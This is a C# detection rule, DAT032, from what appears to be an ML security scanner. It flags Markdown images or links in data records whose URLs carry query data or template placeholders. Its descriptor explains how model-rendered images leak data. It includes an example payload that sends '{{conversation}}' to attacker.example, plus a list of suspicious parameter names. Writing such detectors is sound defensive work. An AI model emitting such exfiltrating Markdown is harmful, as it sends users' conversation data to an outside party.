using MLSecOps.Gates.DataCheck.Scanning;
using MLSecOps.Core.Rules;

namespace MLSecOps.Gates.DataCheck.Rules;

/// <summary>DAT032: Markdown image or link that can exfiltrate data.</summary>
internal static class MarkdownExfiltration
{
    /// <summary>Gets the descriptor.</summary>
    public static RuleDescriptor Descriptor { get; } = RuleDescriptorFactory.Create(
        "DAT032",
        "Markdown image or link that can exfiltrate data",
        "A value holds a Markdown image (`![x](https://host/?q=...)`) or link whose URL carries a query string or a template placeholder. When a model renders it, the client fetches the URL and sends whatever the model put into it.",
        "Remove the record; render model output without auto-loading remote images.",
        Severity.High,
        [Threat.PromptSelfReplication],
        ["OWASP-LLM01", "OWASP-LLM05"],
        Precision.Medium,
        example: "A record containing `![logo](https://attacker.example/collect?data={{conversation}})`.");


    private const int MaxUrl = 2048;

    /// <summary>Checks the Markdown link or image whose <c>](</c> is at <paramref name="p"/>; reports it when its URL carries data out. Returns where to go on.</summary>
    public static int Check(DataRow row, HitCollector hits, int p)
    {
        var text = row.Text;
        var urlStart = p + 2;
        var urlEnd = urlStart;
        while (urlEnd < text.Length && urlEnd - urlStart < MaxUrl && text[urlEnd] is not (')' or ' ' or '\n' or '\u001F' or '"'))
        {
            urlEnd++;
        }

        var url = text[urlStart..urlEnd];
        var open = text[Math.Max(0, p - 300)..p].LastIndexOf('[');
        var isImage = open > 0 && text[Math.Max(0, p - 300) + open - 1] == '!';
        var query = url.IndexOf('?');
        var placeholder = url.IndexOfAny("{}$<>") >= 0 || url.Contains("%7B", StringComparison.OrdinalIgnoreCase) || url.Contains("[DATA", StringComparison.OrdinalIgnoreCase);
        var carriesQuery = query > 0 && CarriesData(url[(query + 1)..]);
        if ((isImage && carriesQuery) || placeholder)
        {
            var host = HostOf(url);
            var kind = isImage ? "Markdown image with data in its URL" : "Markdown link with a template placeholder";
            var at = isImage ? Math.Max(0, p - 300) + open - 1 : urlStart;
            hits.Report(Descriptor, Descriptor.DefaultSeverity, kind, row, at, $"{(isImage ? "![…]" : "[…]")}({host}/…?…)");
        }

        return Math.Max(urlEnd, p + 2);
    }

    private static readonly string[] s_dataParameters = ["q", "d", "c", "p", "data", "prompt", "text", "msg", "message", "content", "conversation", "chat", "secret", "token", "key", "info", "exfil", "payload", "s", "input"];

    private static bool CarriesData(ReadOnlySpan<char> query)
    {
        // Badges and resized images carry `style=flat` or `w=200`; exfiltration carries a data parameter or a long value.
        foreach (var range in query.Split('&'))
        {
            var pair = query[range];
            var equals = pair.IndexOf('=');
            if (equals <= 0)
            {
                continue;
            }

            var name = pair[..equals].ToString().ToLowerInvariant();
            if (s_dataParameters.Contains(name) || pair.Length - equals - 1 >= 32)
            {
                return true;
            }
        }

        return false;
    }

    private static string HostOf(ReadOnlySpan<char> url)
    {
        var scheme = url.IndexOf("//", StringComparison.Ordinal);
        var rest = scheme >= 0 ? url[(scheme + 2)..] : url;
        var end = rest.IndexOfAny("/?#");
        var host = end < 0 ? rest : rest[..end];
        return FindingText.Cap(host.ToString(), 80);
    }
}
